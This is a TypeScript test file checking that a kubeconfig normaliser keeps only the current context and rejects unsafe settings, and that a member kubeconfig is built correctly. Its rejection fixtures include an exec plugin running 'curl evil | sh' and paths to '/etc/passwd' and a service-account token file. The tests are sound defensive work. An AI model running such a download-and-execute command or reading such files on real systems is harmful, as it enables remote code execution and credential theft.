import { describe, expect, it } from 'vitest';
import { parse, stringify } from 'yaml';
import { memberKubeconfig, normaliseKubeconfig } from './cluster-config.ts';

const pem = (what: string) => `-----BEGIN ${what}-----\nAAAA\n-----END ${what}-----\n`;
const b64 = (s: string) => Buffer.from(s).toString('base64');

function kubeconfig(user: Record<string, unknown>, cluster: Record<string, unknown> = {}) {
  return stringify({
    apiVersion: 'v1',
    kind: 'Config',
    clusters: [
      { name: 'other', cluster: { server: 'https://other:6443' } },
      {
        name: 'prod',
        cluster: {
          server: 'https://10.0.0.1:6443/',
          'certificate-authority-data': b64(pem('CERTIFICATE')),
          ...cluster,
        },
      },
    ],
    users: [
      { name: 'spare', user: { token: 'spare-token-value' } },
      { name: 'admin', user },
    ],
    contexts: [
      { name: 'spare', context: { cluster: 'other', user: 'spare' } },
      { name: 'main', context: { cluster: 'prod', user: 'admin' } },
    ],
    'current-context': 'main',
  });
}

const certUser = {
  'client-certificate-data': b64(pem('CERTIFICATE')),
  'client-key-data': b64(pem('PRIVATE KEY')),
};

describe('normaliseKubeconfig', () => {
  it('keeps only the current context, with the server URL and CA', () => {
    const out = normaliseKubeconfig(kubeconfig(certUser));
    expect(out.endpoint).toEqual({ server: 'https://10.0.0.1:6443', caPem: pem('CERTIFICATE') });
    const doc = parse(out.text) as { clusters: unknown[]; users: unknown[]; contexts: unknown[] };
    expect(doc.clusters).toHaveLength(1);
    expect(doc.users).toEqual([{ name: 'admin', user: certUser }]);
    expect(out.text).not.toContain('spare-token-value');
  });

  it('accepts a bearer token user', () => {
    expect(normaliseKubeconfig(kubeconfig({ token: 'abc' })).endpoint.server).toBe('https://10.0.0.1:6443');
  });

  it.each([
    ['an exec plugin', { exec: { command: 'sh', args: ['-c', 'curl evil | sh'] } }, /exec/],
    ['an auth provider', { 'auth-provider': { name: 'gcp' } }, /auth-provider/],
    [
      'a client certificate file',
      { 'client-certificate': '/etc/passwd', 'client-key': '/x' },
      /client-certificate/,
    ],
    ['a token file', { tokenFile: '/var/run/secrets/token' }, /tokenFile/],
    ['no credentials', {}, /no credentials/],
    ['a key that is not PEM', { 'client-certificate-data': b64('x'), 'client-key-data': b64('y') }, /PEM/],
  ])('refuses a user with %s, without echoing it', (_what, user, message) => {
    const text = kubeconfig(user);
    expect(() => normaliseKubeconfig(text)).toThrow(message);
    try {
      normaliseKubeconfig(text);
    } catch (err) {
      expect((err as Error).message).not.toContain('/etc/passwd');
      expect((err as Error).message).not.toContain('curl');
      expect((err as { code?: string }).code).toBe('KUBEOP_ERR_KUBECONFIG_INVALID');
    }
  });

  it.each([
    ['a CA file', { 'certificate-authority': '/etc/ssl/ca.pem' }, /certificate-authority/],
    ['a plain http server', { server: 'http://10.0.0.1:8080' }, /https/],
    ['a proxy', { 'proxy-url': 'http://proxy' }, /proxy-url/],
  ])('refuses a cluster with %s', (_what, cluster, message) => {
    expect(() => normaliseKubeconfig(kubeconfig({ token: 't' }, cluster))).toThrow(message);
  });

  it('refuses text that is not a kubeconfig', () => {
    expect(() => normaliseKubeconfig('{{{')).toThrow(/not valid YAML/);
    expect(() => normaliseKubeconfig('- a\n- b\n')).toThrow(/mapping/);
    expect(() => normaliseKubeconfig('apiVersion: v1\n')).toThrow(/current-context/);
    expect(() => normaliseKubeconfig('x'.repeat(70 * 1024))).toThrow(/larger/);
  });
});

describe('memberKubeconfig', () => {
  it('points at the real server with its CA, the token and the namespace', () => {
    const text = memberKubeconfig({
      cluster: 'prod',
      endpoint: { server: 'https://10.0.0.1:6443', caPem: pem('CERTIFICATE') },
      namespace: 'acme-web-1234abcd',
      user: 'kubeop-member-view-1',
      token: 'tok',
    });
    const doc = parse(text) as {
      clusters: Array<{ cluster: Record<string, string> }>;
      users: Array<{ user: { token: string } }>;
      contexts: Array<{ context: { namespace: string } }>;
      'current-context': string;
    };
    expect(doc.clusters[0]!.cluster).toEqual({
      server: 'https://10.0.0.1:6443',
      'certificate-authority-data': b64(pem('CERTIFICATE')),
    });
    expect(doc.users[0]!.user).toEqual({ token: 'tok' });
    expect(doc.contexts[0]!.context.namespace).toBe('acme-web-1234abcd');
    expect(doc['current-context']).toBe('prod-acme-web-1234abcd');
  });
});
